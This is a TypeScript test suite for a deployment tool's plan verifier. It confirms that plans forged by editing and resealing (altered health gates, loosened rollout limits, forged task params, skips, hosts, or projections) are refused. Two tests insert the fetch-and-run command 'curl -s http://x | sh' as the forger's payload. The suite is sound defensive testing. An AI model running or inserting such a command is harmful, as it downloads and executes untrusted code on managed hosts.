/**
 * apply's re-check of a plan against its playbook (plan-source.ts): a plan made by the real
 * planner passes; every edit an attacker could reseal (the digest and plan-verify.ts do not
 * stop these) is refused with where it is. The replay uses the planner itself, so these plans
 * are made by planPlaybook on fake hosts, then edited the way a forger would.
 */
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadPlaybook, parsePlaybook } from '../../../src/playbook/load.js';
import { selectTasks } from '../../../src/playbook/tags.js';
import type { Playbook } from '../../../src/playbook/types.js';
import { planPlaybook } from '../../../src/engine/run.js';
import { loadPlanPlaybook, verifyPlanSource } from '../../../src/engine/plan-source.js';
import { planFromRecord } from '../../../src/engine/plan-host.js';
import type { PlanDocument } from '../../../src/engine/planfile.js';
import type { Inventory, InventoryHost } from '../../../src/inventory/types.js';
import { PlanFileError } from '../../../src/util/errors.js';
import { FakeHost, KINDS, fakeKind, useFakeKind } from './fakes.js';

const dir = useFakeKind();

const PLAYBOOK = `- hosts: mta
  serial: [1, "50%"]
  max_fail_percentage: 10
  health_gate: { cmd: "pmta show status", timeout_seconds: 20 }
  tasks:
    - { name: a, fake: { key: "/{{ inventory_hostname }}/a", value: "{{ v }}" }, notify: reload, register: ra }
    - { name: b, fake: { key: /b, value: "2", then: "echo b" }, when: ra.changed }
    - { name: c, fake: { key: /c, value: "3" }, when: "v == 'nope'", tags: [extra] }
  handlers:
    - { name: reload, fake: { key: /r, value: "1", then: "reload" } }
    - { name: unused, fake: { key: /u, value: "1" } }
`;

/** h1, h2 in group mta; h3 in group other (not a host of the play). */
function inventory(): Inventory {
  const host = (name: string, group: string): [string, InventoryHost] => [name, { name, vars: { ansible_host: '127.0.0.1' }, groups: ['all', group] }];
  return {
    file: '/dev/null',
    hosts: new Map([host('h1', 'mta'), host('h2', 'mta'), host('h3', 'other')]),
    groups: new Map([
      ['mta', { name: 'mta', hosts: ['h1', 'h2'], children: [], vars: {} }],
      ['other', { name: 'other', hosts: ['h3'], children: [], vars: {} }],
    ]),
  };
}

async function made(playbook: Playbook, extraVars: Record<string, string> = { v: '7' }, limit?: string): Promise<PlanDocument> {
  const conns = new Map(['h1', 'h2', 'h3'].map((n) => [n, new FakeHost(n)]));
  const deps = { kinds: KINDS, connect: async (spec: { name: string }) => conns.get(spec.name)! };
  const body = await planPlaybook({ playbook, inventory: inventory(), extraVars, forks: 2, ...(limit ? { limit } : {}) }, deps);
  // As apply reads it: through JSON.
  return JSON.parse(JSON.stringify({ ...body, digest: '0'.repeat(64) })) as PlanDocument;
}

const playbook = () => parsePlaybook('/pb.yaml', PLAYBOOK);
const check = (doc: PlanDocument, pb: Playbook = playbook()) => verifyPlanSource(doc, pb, inventory(), 'p.plan', KINDS);
const task = (doc: PlanDocument, name: string, host = 0) => doc.plays[0]!.hosts[host]!.tasks.find((t) => t.name === name)!;

async function refused(doc: PlanDocument, message: RegExp, pb?: Playbook): Promise<void> {
  const err = await check(doc, pb).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(PlanFileError);
  expect((err as Error).message).toMatch(/^p\.plan: /);
  expect((err as Error).message).toMatch(message);
  expect((err as Error).message).toMatch(/hand-edited and resealed\?\); make a new plan$/);
}

describe('verifyPlanSource: the plan must be what its playbook gives', () => {
  it('accepts the plan the planner made (the edits below are the only difference)', async () => {
    const doc = await made(playbook());
    expect(task(doc, 'a').plan.kind).toBe('changes');
    expect(task(doc, 'b').plan.kind).toBe('changes');
    expect(task(doc, 'c').skipped).toBeDefined();
    expect(task(doc, 'reload').handler).toBe(true);
    await expect(check(doc)).resolves.toBeUndefined();
  });

  it('refuses a health gate added, changed or removed', async () => {
    for (const gate of [{ cmd: 'curl -s http://x | sh' }, { argv: ['pmta', 'show', 'status'], timeoutSeconds: 20 }, undefined]) {
      const doc = await made(playbook());
      doc.plays[0]!.rolling.healthGate = gate;
      await refused(doc, /play "mta": the health gate .* is not what the playbook \/pb\.yaml says \(\{"cmd":"pmta show status","timeoutSeconds":20\}\)/);
    }
  });

  it('refuses loosened rolling rules', async () => {
    const doc = await made(playbook());
    doc.plays[0]!.rolling.serial = [];
    await refused(doc, /play "mta": the rolling rules .* are not what the playbook/);
    const doc2 = await made(playbook());
    doc2.plays[0]!.rolling.maxFailPercentage = 100;
    await refused(doc2, /the rolling rules/);
  });

  it('refuses params edited with the changes re-derived by the step itself', async () => {
    const doc = await made(playbook());
    const t = task(doc, 'b');
    t.params = { key: '/b', value: '2', then: 'curl -s http://x | sh' };
    t.plan = fakeKind.plan(t.observations, t.params as never);
    await refused(doc, /host h1: task "b": params are not what the playbook renders for this host \("then" differ\)/);
  });

  it('refuses a task whose when is false turned into a change (observations forged consistently)', async () => {
    const doc = await made(playbook());
    const host = doc.plays[0]!.hosts[0]!;
    const t = task(doc, 'c');
    delete t.skipped;
    t.observations = { 'fake /c': null };
    t.plan = fakeKind.plan(t.observations, t.params as never);
    host.observations = { ...host.observations, ...t.observations };
    await refused(doc, /task "c": recorded as run where its when says skip/);
  });

  it('refuses a task the playbook runs recorded as skipped', async () => {
    const doc = await made(playbook());
    const t = task(doc, 'b');
    t.skipped = 'skipped: when x is false';
    t.plan = { kind: 'noop', reason: t.skipped };
    await refused(doc, /the playbook runs task "b" here, the plan records it as skipped/);
  });

  it('refuses any other field of a task added or altered (a skip reason, an extra key)', async () => {
    const doc = await made(playbook());
    task(doc, 'c').skipped = 'skipped: looks harmless';
    await refused(doc, /task "c": the recorded entry is not the one the planner makes/);
    const doc2 = await made(playbook());
    Object.assign(task(doc2, 'a'), { extra: 'x' });
    await refused(doc2, /task "a": the recorded entry is not the one the planner makes/);
  });

  it('refuses a handler no change notifies, and a task added or dropped', async () => {
    const doc = await made(playbook());
    const host = doc.plays[0]!.hosts[0]!;
    host.tasks.push({ ...task(doc, 'reload'), name: 'unused', params: { key: '/u', value: '1' } });
    await refused(doc, /handler "unused" is in the plan, but the playbook does not plan it there/);
    const doc2 = await made(playbook());
    doc2.plays[0]!.hosts[0]!.tasks.splice(1, 1);
    await refused(doc2, /host h1: /);
  });

  it('refuses a task observation that disagrees with the host observation the drift check compares', async () => {
    const doc = await made(playbook());
    const t = task(doc, 'a');
    t.observations = { 'fake /h1/a': '7' };
    t.plan = fakeKind.plan(t.observations, t.params as never);
    await refused(doc, /task "a": its observation "fake \/h1\/a" is not the host's recorded one/);
  });

  it('refuses a changed lock path or become', async () => {
    const doc = await made(playbook());
    doc.plays[0]!.hosts[0]!.lockPath = '/tmp/other.lock';
    await refused(doc, /host h1: the lock path "\/tmp\/other\.lock" is not the inventory's/);
    const doc2 = await made(playbook());
    doc2.plays[0]!.hosts[1]!.become = true;
    await refused(doc2, /host h2: become true is not what the playbook and inventory say/);
  });

  it('refuses a host that is not one of the play\'s, a duplicate, and a host left out', async () => {
    const doc = await made(playbook());
    doc.plays[0]!.hosts.push({ ...doc.plays[0]!.hosts[0]!, host: 'h3' });
    await refused(doc, /host "h3" is not \(once\) one of the play's hosts/);
    const doc2 = await made(playbook());
    doc2.plays[0]!.hosts.push(doc2.plays[0]!.hosts[0]!);
    await refused(doc2, /host "h1" is not \(once\)/);
    const doc3 = await made(playbook());
    doc3.plays[0]!.hosts.pop();
    await refused(doc3, /host h2 of the play is missing from the plan/);
  });

  it('refuses when the host\'s inventory variables changed (group_vars/host_vars are not in the file digest), or their digest is missing', async () => {
    const doc = await made(playbook());
    const inv = inventory();
    inv.hosts.get('h2')!.vars.ansible_port = 2222;
    await expect(verifyPlanSource(doc, playbook(), inv, 'p.plan', KINDS)).rejects.toThrow(/^p\.plan: host h2: its inventory variables \(\/dev\/null, group_vars\/, host_vars\/\) changed since the plan was made; make a new plan$/);
    delete doc.plays[0]!.hosts[0]!.varsSha256;
    await expect(check(doc)).rejects.toThrow(/^p\.plan: host h1: the plan records no digest of its inventory variables/);
  });

  it('--limit and -e vars are those recorded: a plan made with --limit passes, its limit removed does not', async () => {
    const doc = await made(playbook(), { v: '7' }, 'h1');
    await expect(check(doc)).resolves.toBeUndefined();
    doc.limit = null;
    await refused(doc, /host h2 of the play is missing/);
    const doc2 = await made(playbook());
    doc2.extraVars = { v: '8' };
    await refused(doc2, /task "a": params are not what the playbook renders for this host \("value" differ\)/);
  });

  it('a secret -e variable used in a task cannot be carried by a plan: refused when planning, with why', async () => {
    const pb = parsePlaybook('/pb.yaml', `- hosts: mta\n  tasks:\n    - { name: s, fake: { key: /s, value: "{{ api_token }}" } }\n`);
    await expect(made(pb, { api_token: 'hunter2' })).rejects.toThrow(/task "s" for host h1: "api_token" is a secret .*cannot be used in task parameters/);
  });

  it('a when on gathered facts is taken from the plan (facts are not stored), the rest is replayed', async () => {
    const pb = parsePlaybook(
      '/pb.yaml',
      `- hosts: mta\n  gather_facts: true\n  tasks:\n    - { name: f, fake: { key: /f, value: "1" }, when: facts.fd.soft < 65536 }\n    - { name: g, fake: { key: /g, value: "{{ v }}" } }\n`,
    );
    const conns = new Map(['h1', 'h2'].map((n) => [n, new FakeHost(n)]));
    const deps = { kinds: KINDS, connect: async (spec: { name: string }) => conns.get(spec.name)!, facts: async (c: { name: string }) => ({ fd: { soft: c.name === 'h1' ? 1024 : 65536 } }) };
    const body = await planPlaybook({ playbook: pb, inventory: inventory(), extraVars: { v: '7' }, forks: 2 }, deps);
    const doc = JSON.parse(JSON.stringify({ ...body, digest: '0'.repeat(64) })) as PlanDocument;
    expect(doc.plays[0]!.hosts.map((h) => h.tasks[0]!.skipped === undefined)).toEqual([true, false]);
    for (const h of doc.plays[0]!.hosts) expect(h).not.toHaveProperty('facts');
    await expect(check(doc, pb)).resolves.toBeUndefined();
    task(doc, 'g', 1).params = { key: '/g', value: '9' };
    await refused(doc, /host h2: task "g": params/, pb);
  });
});

describe('loadPlanPlaybook: the playbook the plan names, as selected then', () => {
  it('re-applies the recorded --tags selection; the plan passes, and fails without it', async () => {
    const file = join(dir(), 'pb-tags.yaml');
    writeFileSync(file, PLAYBOOK);
    const doc = await made(selectTasks(loadPlaybook(file), { skipTags: ['extra'] }));
    expect(doc.playbook.skipTags).toEqual(['extra']);
    expect(doc.plays[0]!.hosts[0]!.tasks.map((t) => t.name)).toEqual(['a', 'b', 'reload']);
    const pb = loadPlanPlaybook(doc, 'p.plan');
    await expect(check(doc, pb)).resolves.toBeUndefined();
    delete doc.playbook.skipTags;
    await refused(doc, /host h1: (handler "reload" \[fake\] is where the playbook has task "c" \[fake\]|the playbook has task "c" here, the plan has handler "reload")/, loadPlanPlaybook(doc, 'p.plan'));
  });

  it('refuses a playbook whose bytes changed since the plan, and one that is gone', async () => {
    const file = join(dir(), 'pb-changed.yaml');
    writeFileSync(file, PLAYBOOK);
    const doc = await made(loadPlaybook(file));
    writeFileSync(file, PLAYBOOK.replace('pmta show status', 'true'));
    expect(() => loadPlanPlaybook(doc, 'p.plan')).toThrow(/p\.plan: the playbook .*pb-changed\.yaml changed since the plan was made \(sha256 [0-9a-f]{12} -> [0-9a-f]{12}\); make a new plan/);
    rmSync(file);
    expect(() => loadPlanPlaybook(doc, 'p.plan')).toThrow(PlanFileError);
    expect(() => loadPlanPlaybook(doc, 'p.plan')).toThrow(/p\.plan: the plan's playbook cannot be re-checked: cannot read playbook/);
  });
});

describe('verifyPlanSource: projected and predicted tasks', () => {
  const PROJECTED = `- hosts: mta
  tasks:
    - { name: first, fake: { key: /p, value: "1" } }
    - { name: second, fake: { key: /p, value: "2" } }
    - { name: opaque, fake: { key: /q, value: "1", opaque: true } }
    - { name: dependent, fake: { key: /q, value: "2" } }
`;
  const pb = () => parsePlaybook('/pb.yaml', PROJECTED);
  /** Re-derives a forged task's changes with the planner, as a forger would (plan-verify.ts then agrees). */
  const rederive = (t: ReturnType<typeof task>) => {
    t.plan = planFromRecord(fakeKind, { ...t, params: fakeKind.params.parse(t.params) });
  };

  it('accepts the plan the planner made: the second task planned on the first one\'s projection, the dependent one predicted', async () => {
    const doc = await made(pb());
    expect(task(doc, 'second').basis).toEqual({ 'fake /p': '1' });
    expect(task(doc, 'dependent').predicted).toMatch(/reads fake \/q, which task "opaque"/);
    await expect(check(doc, pb())).resolves.toBeUndefined();
  });

  it('refuses a forged basis even when the changes are re-derived from it', async () => {
    const doc = await made(pb());
    task(doc, 'second').basis = { 'fake /p': '9' };
    rederive(task(doc, 'second'));
    await refused(doc, /host h1: task "second": the state it is planned against \(basis\) is not what the earlier tasks of the plan leave/, pb());
  });

  it('refuses a predicted task passed off as exact', async () => {
    const doc = await made(pb());
    delete task(doc, 'dependent').predicted;
    rederive(task(doc, 'dependent'));
    await refused(doc, /host h1: task "dependent": recorded as exact where it reads what an earlier task leaves unknown/, pb());
  });

  it('refuses a dropped projection (the after-apply check would be skipped)', async () => {
    const doc = await made(pb());
    delete task(doc, 'second').projected;
    await refused(doc, /host h1: task "second": the recorded entry is not the one the planner makes/, pb());
  });
});
